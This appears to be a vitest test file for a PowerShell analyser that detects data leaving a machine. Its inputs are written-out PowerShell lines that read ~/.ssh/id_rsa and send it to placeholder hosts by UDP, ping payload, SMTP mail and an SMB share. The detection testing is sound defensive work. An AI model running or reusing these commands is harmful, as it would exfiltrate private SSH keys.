import { expect, test } from "vitest";
import { readPowerShell } from "../../../src/read/powershell/read-powershell.ts";
import { only, say } from "../script/say.ts";

const KEY = "$k = Get-Content ~/.ssh/id_rsa; ";

test.each([
  [
    "datagrams",
    "(New-Object Net.Sockets.UdpClient).Send($k, 1, 'h.example', 53)",
    "channel=socket destination=h.example",
  ],
  [
    "echo requests",
    "(New-Object Net.NetworkInformation.Ping).Send('h.example', 500, $k)",
    "channel=socket destination=h.example",
  ],
  [
    "mail",
    "(New-Object Net.Mail.SmtpClient('h.example')).Send('a@h.example', 'b@h.example', 'x', $k)",
    "channel=mail destination=b@h.example",
  ],
  ["a share", String.raw`Set-Content \\192.0.2.1\in\k $k`, String.raw`channel=socket destination=\\192.0.2.1\in\k`],
])("%s", (_name, line, expected) => {
  expect(only(say(readPowerShell, "powershell", KEY + line), "send").join("\n")).toContain(expected);
});

test("near miss: a message without anything in it", () => {
  expect(only(say(readPowerShell, "powershell", "$ping.Send('h.example', 500)"), "send")).toEqual([]);
});
